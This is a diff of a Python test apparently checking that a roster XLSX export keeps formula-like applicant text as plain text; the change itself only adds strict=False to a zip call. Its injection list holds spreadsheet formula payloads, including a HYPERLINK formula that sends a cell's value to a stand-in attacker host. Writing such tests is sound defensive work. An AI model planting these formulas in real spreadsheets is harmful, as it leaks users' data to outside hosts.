@@ -15,7 +15,7 @@ INJECTIONS = ['=HYPERLINK("http://evil.invalid/?"&F5,"点击")', "+1+1", "-2+3",
 
 def test_roster_xlsx_keeps_formula_like_text_as_text(client):
     roster = copy.deepcopy(sample("roster"))
-    for applicant, text in zip(roster["applicants"], INJECTIONS):
+    for applicant, text in zip(roster["applicants"], INJECTIONS, strict=False):
         applicant["remark"] = text
     roster["applicants"][0]["target_title"] = "=1+1"
     resp = client.post("/v1/documents/roster?format=xlsx", json=roster)
